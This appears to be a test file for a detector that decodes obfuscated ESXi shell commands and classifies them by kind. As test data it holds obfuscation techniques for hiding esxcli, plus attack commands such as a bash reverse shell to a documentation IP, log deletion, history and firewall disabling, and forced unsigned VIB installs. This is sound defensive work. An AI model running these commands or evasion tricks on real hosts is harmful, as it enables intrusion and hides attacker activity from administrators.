import fc from 'fast-check';
import { decodeCommand } from '../../../normalizer/esxi/facts/shell-command';

/** Ways in which commands hide in shell.log, which holds them as typed (CrowdStrike on ESXi shell obfuscation; LOLESXi). */
describe('hidden commands', () => {
  test.each([
    [
      'printf with hexadecimal codes',
      String.raw`$(printf "\x65\x73\x78\x63\x6c\x69") system syslog config get`,
      'esxcli system syslog config get',
      ['substitution', 'printf'],
    ],
    [
      'printf with octal codes',
      String.raw`$(printf '\145\163\170\143\154\151') vm process list`,
      'esxcli vm process list',
      ['substitution', 'printf'],
    ],
    [
      'echo -e in backticks',
      '`echo -e "\\x65sxcli"` vm process list',
      'esxcli vm process list',
      ['substitution', 'echo'],
    ],
    ['ANSI-C quotes', String.raw`$'\x65\x73\x78cli' vm process list`, 'esxcli vm process list', ['escape']],
    [
      'awk',
      `$(awk 'BEGIN{printf "%c%c%c",101,115,120}')cli vm process list`,
      'esxcli vm process list',
      ['substitution', 'awk'],
    ],
    ['base64', '$(echo ZXN4Y2xp | base64 -d) vm process list', 'esxcli vm process list', ['substitution', 'base64']],
    ['variables', 'a=esx;b=cli;$a$b vm process list', 'a=esx;b=cli;esxcli vm process list', ['variable']],
    ['field separator', 'esxcli${IFS}vm${IFS}process${IFS}list', 'esxcli vm process list', ['variable']],
    ['quotes inside of a word', `e''sx"c"li vm process list`, 'esxcli vm process list', ['quotes']],
    ['backslashes inside of a word', String.raw`e\sx\cli vm process list`, 'esxcli vm process list', ['quotes']],
    ['characters that nobody sees', 'es\u200bxcli vm process list', 'esxcli vm process list', ['invisible']],
  ])('%s', (_name, command, decoded, methods) => {
    const found = decodeCommand(command);
    expect(found.decoded).toBe(decoded);
    expect(found.methods).toEqual(methods);
  });

  test.each([
    'esxcli vm process list',
    "grep 'a b' /etc/hosts",
    "awk '{print $1}' /tmp/x",
    'echo "$HOME"',
    "sed 's/\\(a\\)/\\1/' x",
  ])('%s hides nothing', (command) => {
    expect(decodeCommand(command)).toMatchObject({ decoded: undefined, methods: [] });
  });

  test('a secret that was hidden stays masked', () => {
    expect(decodeCommand(String.raw`$(printf "\x65sxcli") system account set -i a -p S3cret`).decoded).toBe(
      'esxcli system account set -i a -p ***',
    );
  });

  test('never throws, and stays short', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom(
            '$',
            '(',
            ')',
            '`',
            '\\',
            'x',
            '4',
            "'",
            '"',
            '{',
            '}',
            '=',
            ';',
            ' ',
            'printf',
            'echo',
            'awk %c,',
          ),
        }),
        (text) => {
          const { decoded } = decodeCommand(text);
          expect((decoded ?? '').length).toBeLessThanOrEqual(text.length * 64 + 64);
        },
      ),
    );
    // Each variable holds two of the one before: it is not opened up without end.
    const doubling = Array.from({ length: 40 }, (_, i) => `a${i + 1}=$a${i}$a${i};`).join('');
    expect((decodeCommand(`a0=x;${doubling}$a40`).decoded ?? '').length).toBeLessThan(100_000);
  });
});

test.each([
  ['/etc/init.d/vmsyslogd stop', ['log_stop', 'service_change']],
  ['HISTFILE=0', ['history_disable']],
  ['unset HISTFILE', ['history_disable']],
  ['rm -f /var/run/log/shell.log', ['log_delete']],
  ['> /var/log/hostd.log', ['log_delete']],
  ['esxcli network firewall set -e false', ['firewall_change']],
  ['esxcli network firewall ruleset list', []],
  ['esxcli software vib install -v /tmp/x.vib --force', ['software_install', 'software_unsigned']],
  ['esxcli system settings kernel set -s execInstalledOnly -v FALSE', ['exec_policy_change']],
  ['esxcli vm process kill -t force -w 2101', ['vm_kill']],
  ['ssh -N -D 1080 u@203.0.113.5', ['tunnel']],
  ['bash -i >& /dev/tcp/203.0.113.5/443 0>&1', ['reverse_shell']],
  ['cat /etc/passwd | grep root', []],
  [String.raw`$(printf "\x65sxcli") system syslog config set --loghost=`, ['log_config_change']],
])('%s is for %j', (command, kinds) => {
  expect(decodeCommand(command).kinds).toEqual(kinds);
});
